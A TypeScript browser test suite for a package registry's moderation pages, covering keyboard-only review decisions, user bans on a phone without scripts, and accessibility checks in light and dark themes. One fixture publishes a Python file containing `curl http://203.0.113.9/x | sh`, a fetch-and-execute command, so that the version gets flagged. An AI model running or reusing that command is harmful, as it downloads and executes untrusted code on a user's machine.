import assert from 'node:assert/strict';
import { type TestContext, after, test } from 'node:test';
import { assertAccessible } from '../support/axe.ts';
import { type PageOptions, openPage } from '../support/browser.ts';
import { makePublisher, publishFiles, uniqueId } from '../support/build.ts';
import { startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';

const shell = { 'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n" };

suite('moderating in a browser', async () => {
  const server = await startServer({ after });
  const moderator = await server.moderator();
  const ada = await makePublisher(server, 'ada');
  await publishFiles(server, ada, 'held', '1.0.0', shell);
  const open = async (t: TestContext, path: string, options: PageOptions = {}) => {
    const page = await openPage(t, server.url, { ...options, session: moderator.bearer });
    await page.goto(path);
    return page;
  };

  test('a decision is made by keyboard alone', async (t) => {
    const id = uniqueId('decided');
    await publishFiles(server, ada, id, '1.0.0', shell);
    const page = await open(t, '/moderate');
    const press = async (key: string, until: string) => {
      // As far as the page is long, and no further.
      for (let count = 0; count < 60; count += 1) {
        await page.keyboard.press(key);
        if ((await page.locator(`${until}:focus`).count()) > 0) return;
      }
      assert.fail(`${key} does not come to ${until}`);
    };
    await press('Tab', `a[href="/moderate/versions/${id}/1.0.0"]`);
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: `${id} 1.0.0 Flagged` }).waitFor();
    await page.getByLabel('Line 3').first().waitFor();
    await press('Tab', '#reason');
    await page.keyboard.type('A test of ours.');
    await press('Tab', 'button[value=NodeVersionStatusActive]');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: `${id} 1.0.0 Active` }).waitFor();
    await page.getByText('version.moderated').waitFor();
    const { json } = await moderator.get(`/nodes/${id}/versions/1.0.0`);
    assert.equal(json.status_reason, 'A test of ours.');
    await server.settle();
  });

  test('a user is banned with the mouse on a phone, without scripts, once the address is typed', async (t) => {
    const user = await server.user('mallory');
    const page = await open(t, '/moderate/users', { isPhone: true, hasScripts: false });
    await page.getByLabel('E-mail address of a user').fill('mallory@example.org');
    await page.getByRole('button', { name: 'Find' }).click();
    const form = page.getByRole('form', { name: 'Ban' });
    await form.getByLabel('Reason').fill('Spam.');
    await form.getByLabel('Type mallory@example.org').fill('someone');
    await form.getByRole('button').click();
    await page.getByRole('alert').waitFor();
    await form.getByLabel('Type mallory@example.org').fill('mallory@example.org');
    await form.getByRole('button').click();
    await page.getByRole('button', { name: 'Lift the ban' }).waitFor();
    assert.equal((await user.get('/users')).status, 401);
  });

  const places = [
    '/moderate',
    '/moderate/versions/held/1.0.0',
    '/moderate/publishers',
    '/moderate/publishers/ada',
    '/moderate/nodes',
    '/moderate/nodes/held',
    '/moderate/users',
    '/moderate/users?q=owner-of-ada%40example.org',
    '/moderate/statistics',
    '/account/publishers/ada/publish/held/1.0.0',
  ];
  for (const theme of ['light', 'dark'] as const) {
    for (const isPhone of [false, true]) {
      test(`all pages are accessible in ${theme}${isPhone ? ' on a phone' : ''}`, async (t) => {
        const page = await open(t, '/moderate', { theme, isPhone });
        for (const place of places) {
          await page.goto(place);
          await assertAccessible(page);
          const { width, inner } = await page.evaluate<{ width: number; inner: number }>(
            '({ width: document.documentElement.scrollWidth, inner: innerWidth })',
          );
          assert.ok(width <= inner, `${place} is wider than the screen: ${width} of ${inner}`);
        }
      });
    }
  }
});
